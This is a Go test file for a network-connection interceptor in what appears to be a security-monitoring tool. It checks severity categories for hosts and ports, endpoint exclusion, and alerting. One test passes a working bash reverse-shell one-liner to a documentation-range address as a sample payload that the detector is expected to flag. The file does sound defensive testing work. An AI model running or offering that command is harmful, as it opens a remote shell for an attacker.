package intercept

import (
	"testing"

	"github.com/nextlevelbuilder/sentryflect/store"
)

func TestCategorize(t *testing.T) {
	cases := []struct {
		host     string
		port     int
		wantCat  ConnCategory
		wantSev  store.Severity
	}{
		{"203.0.113.5", 4444, CategoryPotentialC2, store.SeverityCritical},
		{"203.0.113.5", 22, CategoryPotentialExfiltration, store.SeverityHigh},
		{"203.0.113.5", 9999, CategoryDirectIP, store.SeverityMedium},
		{"api.example.com", 9999, CategoryOutboundConnection, store.SeverityLow},
		{"127.0.0.1", 4444, CategoryPotentialC2, store.SeverityLow},
		{"api.example.com", 443, CategoryOutboundConnection, store.SeverityLow},
	}
	for _, c := range cases {
		cat, sev := Categorize(c.host, c.port)
		if cat != c.wantCat || sev != c.wantSev {
			t.Errorf("Categorize(%q, %d) = (%v, %v), want (%v, %v)", c.host, c.port, cat, sev, c.wantCat, c.wantSev)
		}
	}
}

func TestNewSocketInterceptor_ExcludesConfiguredEndpoint(t *testing.T) {
	call, _ := newTestCall("net")
	s := NewSocketInterceptor(call, newTestPatterns(), "collector.example.com:9000")

	if !s.Excluded["collector.example.com:9000"] {
		t.Fatal("expected the configured endpoint host:port to be excluded")
	}
}

func TestConnOpen_ExcludedHostSkipped(t *testing.T) {
	call, cap := newTestCall("net")
	s := NewSocketInterceptor(call, newTestPatterns(), "collector.example.com:9000")

	skip := s.ConnOpen("collector.example.com", 9000)
	if !skip {
		t.Fatal("expected excluded host to be skipped")
	}
	if len(cap.events) != 0 {
		t.Fatalf("expected no events logged for excluded traffic, got %+v", cap.events)
	}
}

func TestConnOpen_HighSeverityAlsoAlerts(t *testing.T) {
	call, cap := newTestCall("net")
	s := NewSocketInterceptor(call, newTestPatterns(), "")

	skip := s.ConnOpen("203.0.113.9", 4444)
	if skip {
		t.Fatal("expected non-excluded host to not be skipped")
	}

	var sawOpen, sawAlert bool
	for _, ev := range cap.events {
		switch ev.EventType {
		case "net.conn_open":
			sawOpen = true
		case "security.alert":
			sawAlert = true
		}
	}
	if !sawOpen || !sawAlert {
		t.Fatalf("expected both net.conn_open and security.alert, got %+v", cap.events)
	}
}

func TestScanPayload_ShellAccessNetworkIsCritical(t *testing.T) {
	call, cap := newTestCall("net")
	s := NewSocketInterceptor(call, newTestPatterns(), "")

	s.ScanPayload("203.0.113.9", 4444, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")

	var sawAlert bool
	for _, ev := range cap.events {
		if ev.EventType == "security.alert" && ev.Attributes["security.alert_type"] == "remote_code_execution" {
			sawAlert = true
		}
	}
	if !sawAlert {
		t.Fatal("expected a remote_code_execution alert for a reverse-shell payload")
	}
}
